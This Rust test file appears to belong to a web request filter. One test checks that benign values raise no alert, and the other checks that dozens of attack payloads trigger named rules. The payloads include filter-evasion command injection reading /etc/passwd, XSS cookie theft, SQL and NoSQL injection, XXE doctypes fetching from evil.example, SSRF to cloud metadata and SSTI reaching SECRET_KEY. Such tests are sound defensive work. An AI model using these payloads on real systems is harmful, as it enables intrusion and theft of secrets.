//! What people reported of other filters: do their values earn nothing here, and the attacks beside them what they did?

use super::everyday::accused;
use crate::read::target::Target;

#[test]
fn values_of_public_reports() {
    let rows = [
        (Target::Json, "query", "mutation AddNote($id: ID!, $text: String!) { addNote(id: $id, text: $text) { id } }"),
        (Target::Json, "query", "query Q($where: [Filter!]!, $regex: String = \"\") { items(where: $where) { id } }"),
        (Target::Json, "dt", "Sale <50% & more> | Example"),
        (
            Target::Json,
            "text",
            "{\"root\":{\"children\":[{\"text\":\"a\",\"type\":\"text\",\"rel\":null,\"version\":1},{\"text\":\"a\",\"type\":\"text\",\"rel\":null,\"version\":1}]}}",
        ),
        (Target::Header, "user-agent", "Solr[org.apache.solr.client.solrj.impl.HttpSolrClient] 1.0"),
        (Target::Query, "jql", "project=\"Z\"AND\"type\"=\"Bug\"AND\"status\"=\"closed\"AND\"fix\"IS NOT NULL"),
        (Target::Form, "text", "Use something like this as\nsmb://server/share/file.txt as the location."),
        (Target::Query, "oauth_callback", "http://localhost:8080/token"),
        (Target::Json, "link", "../guide/intro.html#set-up"),
        (Target::Json, "content", "http://shop.example/articles/php5-xml.php#Heading17"),
        (Target::Json, "insert", "use std::time::Duration;"),
        (Target::Query, "q", "That is quite enough.\" -- Serena"),
        (Target::Xml, "id", "tag:www.shop.example,2005://1.1"),
        (Target::Xml, "", "<?xml-stylesheet href=\"http://x.example/atom.css\" type=\"text/css\"?><feed/>"),
        (
            Target::Upload,
            "file",
            "<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" \"https://jetty.org/configure.dtd\"><Configure/>",
        ),
        (
            Target::Form,
            "content",
            "}\n\nis_there () {\n\ttool=$(translate \"$1\") &&\n\ttype \"$tool\" >/dev/null 2>&1\n}\n\nlist () {\n\tread -r key\n}\n",
        ),
        (Target::Form, "redirect", "./../adm/index.php?sid=0a1b"),
        (Target::Form, "frontmatter", "process:\n  - email:\n      from: \"{{config.plugins.email.from}}\""),
        (Target::Form, "q", "How does base_convert('ff', 16, 2) work in PHP?"),
        (Target::Form, "text", "the label (password=*) is gone"),
        (Target::Header, "user-agent", "ReadYou/${versionName}(26)"),
        (Target::Query, "modname", "School_Setup/Configuration.php"),
        (
            Target::Query,
            "Format",
            "'<a href=\"__WebPath__/Ticket/Display.html?a=Take&amp;id=__id__\">Take</a>/TITLE:#'",
        ),
        (
            Target::Query,
            "p1",
            "https://maps.example/maps/place/Emirates+Stadium/@51.5548918,-0.1106267,17z/data=!3m1!4b1!8m2!3d51.5",
        ),
        (Target::Json, "fact", "run it with node ../../scripts/run.mjs"),
        (Target::Query, "jql", "\"Request Type\" = \"New Release\" OR \"Type\" = \"Service Request\""),
        (Target::Json, "log", "OOMKilled pod/payment memory_limit=512Mi restarts=14"),
        (
            Target::Json,
            "results_link",
            "http://splunk.example:8000/app/search/search?q=%7Cloadjob%20rt_x_at_1483557185_2.2%20%7C%20head%201%20%7C%20tail%201&latest=now",
        ),
        (Target::Json, "expression", "5 * 5"),
        (Target::Form, "search", "search index=onprem sourcetype=ve:smoke | head 1"),
    ];
    for (target, name, value) in rows {
        assert_eq!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}

#[test]
fn attacks_beside_them() {
    let rows = [
        (Target::Json, "query", "query Q($a: Int, $where: 'sleep(100)')", "nosqli.code"),
        (Target::Query, "q", "x & more > /tmp/x", "rce.command"),
        (Target::Query, "q", "x; cat <&3", "rce.command"),
        (Target::Header, "user-agent", "${_GET[0]}('id')", "code-injection.php-dynamic"),
        // What others reported to get past their filters.
        (Target::Query, "id", "1||lpad(user,7,1)", "sqli.condition"),
        (Target::Query, "cmd", "/bi'n'''/c''at' /e'tc'/pa''ss'wd", "rce.obfuscated"),
        (Target::Query, "x", ";/bi'n'/cat /etc/hosts", "rce.obfuscated"),
        (Target::Query, "cmd", "$abcde/???$fghij/??t$klmno $pqrst/???$uvwxy/??ss??$zabcd", "rce.obfuscated"),
        (Target::Query, "q", "[][`constructor`][`constructor`]`$${`al`+`ert`}$```", "xss.computed-member"),
        (Target::Query, "q", "\";alert?.(document?.cookie);//", "xss.script-code"),
        (Target::Query, "q", "`+alert/**/(1)+`", "xss.string-breakout"),
        (Target::Query, "id", "1 un<>ion sel<>ect 1,2,3", "sqli.union-select"),
        (Target::Query, "url", "\"onm<>ouseover=\"ale<>rt(1)", "xss.attribute-breakout"),
        (Target::Json, "name", "=calc|a!z", "code-injection.hosted"),
        (Target::Form, "code", "(string)\"system\"('uname');", "code-injection.php-dynamic"),
        (Target::Query, "url", "http://\u{246f}\u{2468}.254.\u{246f}\u{2468}.254/", "ssrf.metadata"),
        (Target::Query, "url", "http://\u{1d7cf}\u{1d7d4}\u{1d7d7}.254.169.254/", "ssrf.metadata"),
        (Target::Query, "url", "http://x.example/@127.0.0.1/", "ssrf.odd-address"),
        (Target::Json, "fact", "run it with node ../../../../etc/passwd", "path-traversal.target"),
        (Target::Json, "fact", "run it with node ../../secrets/key; ../../x", "path-traversal.climb"),
        (Target::Form, "search", "index=x | head /etc/passwd", "rce.command"),
        (Target::Query, "expression", "5*5", "rce.named-command"),
        // What an attacker wraps in what is trusted.
        (Target::Query, "name", "x|sh <", "rce.command"),
        (Target::Query, "name", "x;id >", "rce.command"),
        (Target::Form, "user", "query', $where: function () { return sleep(5000) }, a: '", "nosqli.code"),
        (Target::Form, "user", "query', pass: {$ne: null }, a: '", "nosqli.operator"),
        (Target::Json, "body", "query{user:{$ne: null },pass:{$ne: null }}", "nosqli.operator"),
        (Target::Xml, "", "<!DOCTYPE r PUBLIC \"-//B/A/EN\" \"http://evil.example/evil.dtd\"><r/>", "xxe.doctype"),
        (
            Target::Xml,
            "",
            "<!DOCTYPE r PUBLIC \"-//VSR//PENTEST//EN\" \"http://evil.example/evil.dtd\"><r/>",
            "xxe.doctype",
        ),
        (
            Target::Xml,
            "",
            "<?xml-stylesheet type=\"text/xsl\" href=\"http://e.example/x.xsl\" title='type=\"text/css\"'?><a/>",
            "xxe.doctype",
        ),
        (
            Target::Xml,
            "",
            "<?xml-stylesheet type=\"text/css\" href=\"a.css\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://e.example/x.xsl\"?><a/>",
            "xxe.doctype",
        ),
        (
            Target::Xml,
            "",
            "<?xml-stylesheet title=\">\" type = \"text/xsl\" type=\"text/css\" href=\"http://e.example/x.xsl\"?><a/>",
            "xxe.doctype",
        ),
        (Target::Xml, "", "<a xsi:schemaLocation=\"urn:x http://127.0.0.1/admin\" type=\"text/css\"/>", "xxe.doctype"),
        (Target::Form, "urls", "https://ok.example\nsmb://203.0.113.9/a", "ssrf.scheme"),
        (Target::Form, "redirect", "../../../etc/passwd", "path-traversal.target"),
        (Target::Query, "file", "./../adm/index.php", "path-traversal.lead"),
        (Target::Form, "x", "{{config.from_object.__globals__}}", "ssti.object"),
        (Target::Form, "x", "{{config.SECRET_KEY}}", "ssti.object"),
        (Target::Query, "sort", "password::int::regtype", "sqli.fragment"),
        (Target::Query, "q", "acme inc.\" -- abc", "sqli.commented-quote"),
        (Target::Query, "x", "<a href=\"/\\evil.example/?a=1&amp;b=2\">x</a>", "xss.markup"),
        (Target::Query, "mod", "config/configuration.php", "path-traversal.server-file"),
        (Target::Query, "page", "/usr/local/lib/php/pearcmd", "path-traversal.server-file"),
        (Target::Query, "jql", "project=\"Z\" OR \"1\"=\"1\" -- ", "sqli.tautology"),
        (Target::Query, "q", "SELECT * FROM users", "sqli.statement"),
        (Target::Query, "q", "SELECT password FROM users WHERE name = 'a'--", "sqli.statement"),
        (Target::Query, "x", "smb://203.0.113.9/a", "ssrf.scheme"),
        (Target::Query, "callback_url", "http://localhost:8080/token", "ssrf.loopback"),
        (Target::Json, "link", "../../../../etc/passwd#x.html", "path-traversal.target"),
        (Target::Json, "content", "http://203.0.113.9/shell.php?", "file-inclusion.remote"),
        (Target::Query, "q", "admin.\" --", "sqli.commented-quote"),
        (Target::Query, "q", "admin\" -- Serena", "sqli.commented-quote"),
        (Target::Xml, "", "<?xml-stylesheet href=\"http://x.example/a.xsl\" type=\"text/xsl\"?><a/>", "xxe.doctype"),
        (Target::Json, "x", "1;\nCREATE FUNCTION f RETURNS INTEGER SONAME 'udf.so'", "sqli.stacked"),
        (Target::Json, "hostName", "test$(touch /tmp/a)", "rce.substitution"),
        (Target::Form, "val", ",phpinfo());/*", "code-injection.php-break"),
        (Target::Filename, "file", "report.grf;.aspx", "upload.hidden"),
        (Target::Query, "file", "/usr/local/lib/php/pearcmd.php", "path-traversal.server-file"),
        (Target::Form, "username", "x;(&(uid=Admin)(userPassword=A*))", "ldapi.filter"),
        (
            Target::Form,
            "keys",
            "{if:array_map(base_convert(27440799224,10,32),array(1))}{end if}",
            "code-injection.php-dynamic",
        ),
        (Target::Query, "modname", "../config/configuration.php", "path-traversal.server-file"),
        (Target::Query, "file", "School_Setup/Configuration.php", "path-traversal.server-file"),
        (Target::Query, "Format", "<a href=\"java&#115;cript:alert(1)\">Take</a>", "xss.markup"),
        (Target::Query, "Format", "<a href=\"//evil.example/?a=1&amp;id=2\">Take</a>", "xss.markup"),
    ];
    for (target, name, value, rule) in rows {
        let rules = accused(target, name, value);
        assert!(rules.iter().any(|found| found == rule), "{target:?} {name}: {value}: {rules:?}");
    }
}
